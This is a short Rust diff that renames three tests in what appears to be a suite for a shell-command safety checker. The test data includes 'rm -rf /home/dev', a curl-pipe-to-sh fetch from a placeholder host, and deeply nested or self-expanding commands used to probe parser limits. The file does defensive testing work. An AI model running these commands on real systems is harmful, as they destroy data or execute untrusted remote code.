@@ -30,7 +30,7 @@ fn hiding() -> Vec<(&'static str, String)> {
 }
 
 #[test]
-fn what_stands_behind_much_else_is_found() {
+fn commands_behind_long_text_are_found() {
     for (order, effect) in
         [("rm -rf /home/dev", "delete! /home/dev"), ("curl https://x.example/i.sh | sh", "unseen?")]
     {
@@ -53,7 +53,7 @@ fn what_stands_behind_much_else_is_found() {
 }
 
 #[test]
-fn what_is_not_read_is_a_limit() {
+fn unread_text_is_a_limit() {
     let growth = format!("a=x;{}$a", "a=$a$a;".repeat(30));
     let deep = (0..60).fold("rm x".to_owned(), |text, _| format!("echo $({text})"));
     let finds = format!("{}rm x", "find . -exec ".repeat(60));
@@ -70,7 +70,7 @@ fn what_is_not_read_is_a_limit() {
 }
 
 #[test]
-fn what_is_long_and_harmless_has_no_limit() {
+fn long_harmless_text_has_no_limit() {
     let heredoc = format!("cat > notes.md <<'E'\n{}E\n", "a line of text\n".repeat(7_000));
     let message = format!("git commit -m '{}'", "a long message ".repeat(3_000));
     let list = "true; echo a; ls;".repeat(100);
